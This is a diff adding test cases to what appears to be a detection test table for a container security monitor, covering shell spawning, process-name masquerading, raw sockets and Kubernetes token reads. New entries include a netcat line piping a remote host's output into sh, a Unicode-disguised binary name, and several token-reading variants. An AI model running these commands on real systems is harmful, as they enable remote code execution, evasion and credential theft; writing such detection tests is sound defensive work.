@@ -157,7 +157,10 @@ ROWS = {
          # at a terminal or socket pair of the program that is connected
          deed(SPAWN.format(GO), labels=OUT),
          deed(PYTHON.format(GO + "import subprocess; a, b = socket.socketpair(); b.send(b\"exit\\n\"); "
-                            "subprocess.run([\"/bin/bash\"], stdin=a)"), labels=OUT)],
+                            "subprocess.run([\"/bin/bash\"], stdin=a)"), labels=OUT),
+         # behind pipes: one that goes in a circle, and from a tool that connects
+         deed("mkfifo /opt/f; (echo exit > /opt/f) & sh < /opt/f | cat"),
+         deed("nc -w 1 198.51.100.99 80 | sh", labels=OUT)],
         [deed(SPAWN.format("")),
          deed(PYTHON.format(GO + "import subprocess; "
                             "subprocess.run([\"/bin/sh\", \"-c\", \"cat\"], input=b\"x\")"), labels=OUT),
@@ -171,7 +174,8 @@ ROWS = {
          deed("mkdir /tmp/.x; cp /bin/true /tmp/.x/sshd; /tmp/.x/sshd"),
          deed("bash -c 'exec -a \"sshd: root\" true'"), deed("ln /usr/bin/gzip /opt/app"),
          deed("cp /bin/true '/opt/[kworker]'; '/opt/[kworker]'"),
-         deed("n=/opt/b$(printf '\\320\\260')sh; cp /bin/true $n; $n")],
+         deed("n=/opt/b$(printf '\\320\\260')sh; cp /bin/true $n; $n"),
+         deed("n=/opt/app$(printf '\\302\\240'); cp /bin/true $n; $n")],
         [deed("bash -c 'exec -a -bash bash -c true'; bash -c 'exec -a app /bin/true'; [ 1 = 1 ]")]),
     "setuid-bit": (
         [deed("cp /bin/true /opt/s; chmod 4755 /opt/s"),
@@ -246,13 +250,15 @@ ROWS = {
          # past every network policy: to the machine below, or straight from the card
          deed("python3 -c 'import socket; socket.socket(40, 1, 0)'"),
          deed("python3 -c 'import socket; socket.socket(44, 3, 0)'"),
-         deed(RING.format("socket 17 3 768"))],
+         deed(RING.format("socket 17 3 768")), deed("python3 -c 'import socket; socket.socket(2, 3, 1)'")],
         [deed("ping -c 1 -W 1 127.0.0.1; ip addr; python3 -c 'import socket; "
               "socket.socket(socket.AF_INET, socket.SOCK_DGRAM)'")]),
     "token-read": (
         [deed(TOKEN + "cat $d/token"), deed(TOKEN + "ln $d/token /tmp/x"),
          deed("mkdir -p /root/.kube; echo t > /root/.kube/config; cat /root/.kube/config"),
-         deed(TOKEN + "perl -e 'open(F, \"/run/secrets/kubernetes.io/serviceaccount/token\")'")],
+         deed(TOKEN + "perl -e 'open(F, \"/run/secrets/kubernetes.io/serviceaccount/token\")'"),
+         deed(TOKEN + "perl -lne 1 $d/token"), deed(TOKEN + "echo \"open('$d/token')\" | python3"),
+         deed(TOKEN + "tac $d/token")],
         [deed("mkdir /opt/git; echo t > /opt/git/config; cat /opt/git/config; mkdir -p /run/secrets; "
               "ln -s /run/secrets/kubernetes.io/serviceaccount/token /opt/token"),
          deed(TOKEN + "python3 -m timeit -n1 -r1 "
